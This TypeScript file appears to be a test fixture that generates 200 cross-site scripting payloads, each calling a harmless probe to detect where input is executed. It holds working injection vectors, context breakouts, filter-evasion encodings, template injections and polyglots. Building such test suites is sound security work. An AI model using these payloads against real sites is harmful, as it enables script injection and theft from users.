/** What is typed to make a page run something: it calls `p`, the probe of these journeys, with a number. */
export interface Payload {
  readonly name: string
  /** @param mark the number that the probe is called with, digits only: it names payload and field */
  readonly text: (mark: string) => string
}

/** HTML that runs `run` once it is part of a document; some of it needs a click or an old browser. */
const vectors: Readonly<Record<string, (run: string) => string>> = {
  script: (run) => `<script>${run}</script>`,
  'script that is never closed': (run) => `<script>${run}//`,
  image: (run) => `<img src=x onerror=${run}>`,
  'image that loads': (run) =>
    `<img onload=${run} src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=>`,
  svg: (run) => `<svg/onload=${run}>`,
  'script in svg': (run) => `<svg><script>${run}</script></svg>`,
  'animation in svg': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  body: (run) => `<body onload=${run}>`,
  details: (run) => `<details open ontoggle=${run}>`,
  video: (run) => `<video><source onerror=${run}></video>`,
  audio: (run) => `<audio src=x onerror=${run}>`,
  'field with the focus': (run) => `<input autofocus onfocus=${run}>`,
  style: (run) => `<style onload=${run}></style>`,
  'css animation': (run) => `<style>@keyframes k{}</style><b style=animation:k onanimationstart=${run}>`,
  'frame with a document': (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  'frame with a script address': (run) => `<iframe src=javascript:parent.${run}>`,
  object: (run) => `<object data=javascript:${run}>`,
  refresh: (run) => `<meta http-equiv=refresh content=0;url=javascript:${run}>`,
  link: (run) => `<a href=javascript:${run}>details</a>`,
  button: (run) => `<form><button formaction=javascript:${run}>more</button></form>`,
}

/** What stands around the HTML, to leave what a page puts around a text. */
const surroundings: Readonly<Record<string, (html: string) => string>> = {
  text: (html) => html,
  'a quoted attribute': (html) => `">${html}`,
  'a single-quoted attribute': (html) => `'>${html}`,
  'a title': (html) => `</title>${html}`,
  'a text field': (html) => `</textarea>${html}`,
  'a script': (html) => `</script>${html}`,
  'a comment': (html) => `-->${html}`,
  'words of a client': (html) => `Brown snake ${html} near the tap`,
}

/** How the HTML is spelt, to pass a filter that looks for it; each is used with each of the vectors. */
const spellings: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html,
  (html) => html.replaceAll(' on', '/on'),
  (html) => html.replaceAll('<', '\u200b<\u200b'),
  (html) => html,
  (html) => html.replaceAll('<', '&amp;lt;'),
]

/** What needs no HTML: scripts, templates, addresses and formats. */
const others: Readonly<Record<string, (run: string) => string>> = {
  'attribute, quoted': (run) => `" autofocus onfocus="${run}`,
  'attribute, single-quoted': (run) => `' autofocus onfocus='${run}`,
  'attribute, not quoted': (run) => `x onmouseover=${run}`,
  'text of a script, single-quoted': (run) => `'-${run}-'`,
  'text of a script, quoted': (run) => `"-${run}-"`,
  'text of a script, escaped': (run) => `\\'-${run}//`,
  'text of a script, with a line separator': (run) => `\u2028${run}\u2028`,
  'template text': (run) => `\${${run}}`,
  'template of a framework': (run) => `{{${run}}}`,
  'template of Angular': (run) => `{{constructor.constructor('${run}')()}}`,
  'template of Vue': (run) => `<p v-if=${run} :key=${run}>`,
  'template of a server': (run) => `<%= ${run} %>`,
  'template with a hash': (run) => `#{${run}}`,
  'script address': (run) => `javascript:${run}`,
  'script address, spelt with entities': (run) => `jav&#x09;ascript:${run}`,
  'script address, spelt with a tab': (run) => `java\tscript:${run}`,
  'script address, in capitals': (run) => `JaVaScRiPt:${run}`,
  'script address after a real one': (run) => `javascript://snakes.example/%0a${run}`,
  'document address': (run) => `data:text/html,<script>parent.${run}</script>`,
  'link of Markdown': (run) => `[map](javascript:${run})`,
  'image of Markdown': (run) => `![x](x"onerror="${run})`,
  polyglot: (run) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//</stYle/</titLe/--!><sVg/oNloAd=${run}//>`,
  'polyglot, short': (run) => `'">--></script><svg/onload=${run}>`,
  'json that closes its script': (run) => `{"a":"</script><script>${run}</script>"}`,
  'json with a prototype': (run) => `{"__proto__":{"onerror":"${run}"}}`,
  'element of React': (run) => `{"$$typeof":"x","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  'full-width signs': (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  'signs of an old encoding': (run) => `+ADw-script+AD4-${run}`,
  'escapes of a script': (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  'escapes of an address': (run) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  'escapes of an address, twice': (run) => `%253Cscript%253E${run}%253C/script%253E`,
  'number entities': (run) => `&#60;img src=x onerror=${run}&#62;`,
  'number entities without an end': (run) => `&#x3c&#x73cript>${run}`,
  'text from right to left': (run) => `\u202e<img src=x onerror=${run}>`,
  'hidden joiners in a name': (run) => `<scr\u200dipt>${run}</scr\u200dipt>`,
  'line breaks': (run) => `<img\nsrc=x\nonerror\n=\n${run}\n>`,
  'quotes of other kinds': (run) => `\u201c><img src=x onerror=\u201c${run}\u201d>`,
  'address of an email': (run) => `"<svg/onload=${run}>"@snakes.example`,
  'signature of an email': (run) => `a@b.c'><script>${run}</script>`,
  'formula of a table': (run) => `=HYPERLINK("javascript:${run}")`,
}

/** 200 different payloads: every vector in every surrounding, 160, and 40 others. */
export const payloads: readonly Payload[] = [
  ...Object.entries(vectors).flatMap(([vector, html], row) =>
    Object.entries(surroundings).map(([place, around], column): Payload => {
      const spell = spellings[(row + column) % spellings.length]!
      return {
        name: `${vector}, out of ${place}`,
        text: (mark) => around(spell(html(`p(${mark})`))),
      }
    }),
  ),
  ...Object.entries(others).map(([name, text]): Payload => ({ name, text: (mark) => text(`p(${mark})`) })),
]
